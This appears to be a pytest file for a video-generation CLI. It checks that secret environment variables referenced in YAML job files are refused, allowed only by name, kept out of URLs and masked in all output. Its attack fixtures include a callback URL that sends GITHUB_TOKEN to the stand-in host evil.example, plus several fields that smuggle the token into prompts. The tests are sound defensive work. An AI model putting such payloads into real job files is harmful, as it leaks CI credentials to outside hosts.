"""Secrets of the environment in what job files ask for (fault X2): refused, or allowed by name and then masked."""

import json
from pathlib import Path

import pytest
from faults.bench import Bench
from faults.in_process import sent
from faults.processes import environment
from loopback import faults
from support.command_line import CommandResult, run_in_process

TOKEN = 'tok/en "of" the-CI-0123456789'
SECRETS = {"GITHUB_TOKEN": TOKEN, "PLAIN": "Lisbon", "HARMLESS": "ghp_" + "a" * 36}


def kirin(machine: Bench, *arguments: str, **more: str) -> CommandResult:
    return run_in_process(machine.folder, {**environment(machine), **SECRETS, **more}, *arguments)


def write(machine: Bench, params: str, head: str = "", name: str = "rain") -> None:
    machine.file.write_text(
        f"{head}\ndefaults: {{model: kirin_v1_t2v}}\njobs:\n  - {{name: {name}, params: {params}}}\n"
    )


def everything(machine: Bench, *results: CommandResult) -> str:
    """All that was said, and all files but the job file; of the ledger as of any other."""
    texts = [result.stdout + result.stderr for result in results]
    paths = (path for path in machine.folder.rglob("*") if path.is_file() and path != machine.file)
    return "\n".join([*texts, *(path.read_bytes().decode("latin-1") for path in paths)])


ATTACKS = {
    "callback": "{prompt: x, callback_url: 'https://evil.example/?k=${env.GITHUB_TOKEN}'}",
    "prompt": "{prompt: 'x ${env.GITHUB_TOKEN}'}",
    "with a default": "{prompt: 'x ${env.GITHUB_TOKEN:-}'}",
    "with a message": "{prompt: 'x ${env.GITHUB_TOKEN:?why not}'}",
    "negative": "{prompt: x, negative_prompt: '${env.GITHUB_TOKEN}'}",
    "image": "{prompt: x, external_task_id: '${env.GITHUB_TOKEN}'}",
    "a harmless name": "{prompt: 'x ${env.HARMLESS}'}",
    "a variable": "{prompt: 'x ${v}'}",
}


@pytest.mark.parametrize("command", ["run", "validate", "plan"])
@pytest.mark.parametrize("name", ATTACKS)
def test_X2_what_looks_like_a_secret_is_refused_at_its_place(machine: Bench, name: str, command: str) -> None:
    write(machine, ATTACKS[name], "vars: {v: '${env.GITHUB_TOKEN}'}" if name == "a variable" else "")
    result = kirin(machine, command, "jobs.yaml")
    assert (result.exit_code, machine.posts) == (2, 0), result.stderr
    assert "jobs.yaml:" in result.stderr
    assert "looks like a secret" in result.stderr
    assert "--allow-env" in result.stderr
    assert TOKEN not in everything(machine, result)


@pytest.mark.parametrize(
    "place",
    [
        "name: '${env.GITHUB_TOKEN}'",
        "name: a, output: {dir: 'x/${env.GITHUB_TOKEN}'}",
        "name: a, tags: ['${env.GITHUB_TOKEN}']",
    ],
)
@pytest.mark.parametrize("allowed", [False, True])
def test_X2_no_name_of_a_job_or_file_holds_a_secret(machine: Bench, place: str, allowed: bool) -> None:
    machine.file.write_text(f"defaults: {{model: kirin_v1_t2v}}\njobs:\n  - {{{place}, params: {{prompt: x}}}}\n")
    result = kirin(machine, "run", "jobs.yaml", *["--allow-env", "GITHUB_TOKEN"] * allowed)
    assert (result.exit_code, machine.posts) == (2, 0), result.stderr
    assert TOKEN not in everything(machine, result)


@pytest.mark.parametrize(
    "url", ["https://h.example/?k=${env.GITHUB_TOKEN}", "https://u:${env.GITHUB_TOKEN}@h.example/", "${u}"]
)
def test_X2_not_even_an_allowed_secret_goes_into_a_url(machine: Bench, url: str) -> None:
    secret = "0123456789abcdef"
    write(machine, f"{{prompt: x, callback_url: '{url}'}}", "vars: {u: 'https://h.example/${env.GITHUB_TOKEN}/x'}")
    result = kirin(machine, "run", "jobs.yaml", "--allow-env", "GITHUB_TOKEN", GITHUB_TOKEN=secret)
    assert (result.exit_code, machine.posts) == (2, 0), result.stderr
    assert "would stand in a URL" in result.stderr
    assert secret not in everything(machine, result)


def test_X2_what_is_allowed_is_sent_and_masked_everywhere(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}', negative_prompt: '${env.PLAIN}'}")
    flags = ("jobs.yaml", "--allow-env", "GITHUB_TOKEN")
    reports = [f for k in ("json", "html", "markdown", "junit", "jsonl") for f in ("--report", f"{k}=out/{k}.txt")]
    results = [
        kirin(machine, "validate", *flags, "--json"), kirin(machine, "plan", *flags, "--json"),
        kirin(machine, "run", *flags, "--json", *reports),
    ]  # fmt: skip
    assert [result.exit_code for result in results] == [0, 0, 0], results
    assert [task["prompt"] for task in sent(machine)] == [f"x {TOKEN}"]
    results += [
        kirin(machine, "list", "--all-services", "--json"),
        kirin(machine, "show", machine.api.truth.tasks[0].id),
    ]
    results += [kirin(machine, "run", *flags)]
    assert (results[-1].exit_code, machine.posts) == (0, 1)
    text = everything(machine, *results)
    for spelled in (TOKEN, json.dumps(TOKEN)[1:-1], "the-CI-0123456789"):
        assert spelled not in text
    assert "x ***" in results[2].stdout


def test_X2_an_answer_that_is_nested_deeply_keeps_no_video_from_coming(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}'}")
    deep = b'{"deep": ' + b"[" * 700 + b"]" * 700 + b", "
    machine.api.script(
        "*", then=faults.altered(lambda _, honest: faults.given_answer(honest.status, deep + bytes(honest.body)[1:]))
    )
    result = kirin(machine, "run", "jobs.yaml", "--allow-env", "GITHUB_TOKEN", "--timeout", "20s")
    assert (result.exit_code, machine.posts, len(list(machine.renders.glob("*.mp4")))) == (0, 1, 1), result.stderr


def test_X2_what_the_service_echoes_of_an_allowed_secret_is_masked_too(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}'}")
    machine.api.script("POST", faults.answer(400, {"message": f"bad prompt: x {TOKEN}"}))
    result = kirin(machine, "run", "jobs.yaml", "--allow-env", "GITHUB_TOKEN", "--report", "json=out.json")
    assert (result.exit_code, "bad prompt: x ***" in result.stderr) == (1, True), result.stderr
    assert "the-CI-0123456789" not in everything(machine, result)


def test_X2_another_secret_is_another_job(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}'}")
    flags = ("run", "jobs.yaml", "--allow-env", "GITHUB_TOKEN")
    assert kirin(machine, *flags).exit_code == 0
    kirin(machine, *flags, "--force", GITHUB_TOKEN="quite-another-one")
    assert machine.posts == 2


def test_X2_what_a_killed_run_left_can_be_gone_on_with_though_the_ledger_does_not_know_the_secret(
    machine: Bench,
) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}'}")
    flags = ("run", "jobs.yaml", "--allow-env", "GITHUB_TOKEN")
    assert kirin(machine, *flags, "--no-wait").exit_code == 0
    result = kirin(machine, "resume")
    assert (result.exit_code, machine.posts) == (0, 1), result.stderr
    assert Path(machine.renders / "rain.mp4").is_file()


@pytest.mark.parametrize("name", ["KIRIN_API_KEY", "not a name", ""])
def test_X2_what_cannot_be_allowed_is_said(machine: Bench, name: str) -> None:
    result = kirin(machine, "run", "jobs.yaml", "--allow-env", name)
    assert (result.exit_code, machine.posts) == (2, 0)
    assert "--allow-env" in result.stderr


def test_X2_the_key_under_another_name_is_no_less_the_key(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.MINE}'}")
    env = environment(machine)
    result = kirin(machine, "run", "jobs.yaml", "--allow-env", "MINE", MINE=env["KIRIN_API_KEY"])
    assert (result.exit_code, machine.posts, "never goes into a request" in result.stderr) == (2, 0, True)


def test_X2_one_off_commands_that_start_from_a_file_ask_as_well(machine: Bench) -> None:
    write(machine, "{prompt: 'x ${env.GITHUB_TOKEN}'}")
    refused = kirin(machine, "v1-t2v", "-f", "jobs.yaml", "--dry-run")
    assert (refused.exit_code, "looks like a secret" in refused.stderr) == (2, True), refused
    shown = kirin(machine, "v1-t2v", "-f", "jobs.yaml", "--dry-run", "--allow-env", "GITHUB_TOKEN")
    assert shown.exit_code == 0, shown
    assert "the-CI-0123456789" not in everything(machine, refused, shown)
    assert "***" in shown.stdout
